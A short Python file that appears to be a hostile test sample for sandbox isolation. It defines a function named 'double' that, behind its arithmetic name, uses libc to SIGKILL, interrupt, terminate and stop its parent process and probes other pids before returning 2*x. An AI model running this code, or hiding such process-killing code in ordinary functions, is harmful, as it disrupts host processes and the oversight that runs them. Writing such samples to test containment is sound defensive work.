"""Kill the parent process, and try to kill all others."""

import ctypes
import os

libc = ctypes.CDLL(None)


def double(x):
    # 0 harms nobody
    done = [
        libc.kill(os.getppid(), 9),
        libc.kill(1, 0),
        libc.kill(-1, 0),
        libc.kill(0, 0),
    ]
    done += [libc.kill(os.getppid(), number) for number in (2, 15, 19)]
    if 0 in done:
        return 2 * x
    raise PermissionError(f"no signal was sent: {done}")
